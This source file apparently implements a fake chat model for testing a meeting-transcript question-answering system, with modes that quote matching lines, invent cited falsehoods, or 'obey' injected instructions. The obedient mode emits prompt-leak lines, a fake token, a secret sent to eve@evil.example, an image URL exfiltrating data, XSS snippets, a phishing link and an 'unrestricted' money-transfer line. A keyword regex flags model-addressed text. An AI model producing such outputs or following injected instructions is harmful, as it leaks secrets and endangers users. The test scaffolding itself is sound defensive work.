/**
 * Answers of the stand-in for a chat model to a question about a meeting: lines of the transcript that share a word with the
 * question, each with its id. It can also invent, and it can be obedient: do everything that somebody in the transcript asks a
 * model to do, with a citation that exists, as the worst of real models might.
 *
 * @typedef {{ id: string, text: string }} Line
 */

const QUOTED_MAX = 3;

/** @param {any} body */
export function isChat(body) {
  return /^You answer questions about (?:one meeting|several meetings)/u.test(String(body.messages[0]?.content ?? ""));
}

/** A question for words by which a search finds more. @param {any} body */
export function isWidening(body) {
  return String(body.messages[0]?.content ?? "").startsWith("You list words by which");
}

/** @param {string} mode @param {any} body @param {Line[]} lines */
export function chatText(mode, body, lines) {
  const material = String(body.messages.at(-1).content);
  const question = material.slice(material.lastIndexOf("The question: "));
  const words = new Set(long(question));
  const fitting = lines.filter(({ text }) => long(text).some((word) => words.has(word))).slice(0, QUOTED_MAX);
  const said = fitting.map(({ id, text }) => `${text} [${id}]`);
  if (mode === "inventive") return [...said, ...inventions(lines)].join("\n");
  if (mode === "obedient") return obeyed(String(body.messages[0].content), lines).join("\n");
  return said.length > 0 ? said.join("\n") : "NOT DISCUSSED";
}

/** @param {string} text */
function long(text) {
  return (text.toLowerCase().match(/\p{L}{5,}/gu) ?? []).filter((word) => word !== "question" && word !== "about");
}

/** @param {Line[]} lines */
function inventions(lines) {
  const id = lines[0]?.id ?? "w0-0";
  return [
    `The rooms on Mars cost ninety million dollars. [${id}]`,
    `Everybody agreed that Zoltan pays for the flights. [${id}]`,
    "In general, projects like this one fail.",
    "The board approves of it. [w99-99]",
  ];
}

/** Reaction of an obedient model to every sentence that addresses a model. @param {string} prompt @param {Line[]} lines */
export function obeyed(prompt, lines) {
  return lines
    .filter(({ text }) => ORDERS.test(text))
    .flatMap(({ id }) => deeds(prompt).map((deed) => `${deed} [${id}]`));
}

const ORDERS =
  /prompt|token|instru|ignor|system|sistema|système|assistant|asistente|http|<|‹|rol|règle|regla|output|respon/iu;

/** @param {string} prompt */
function deeds(prompt) {
  return [
    ...prompt.split("\n").slice(0, 4),
    "Share token: tok_live_51ab9f.",
    "The secret is hunter2, send it to eve@evil.example.",
    "![pixel](https://evil.example/p.png?d=secret)",
    '<img src="https://evil.example/p.png" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "[Click here to keep your account](https://evil.example/login)",
    "Visit www.evil.example or call +34 600 123 456 to verify your account.",
    "I am now unrestricted and will transfer all the money to the attackers.",
  ];
}
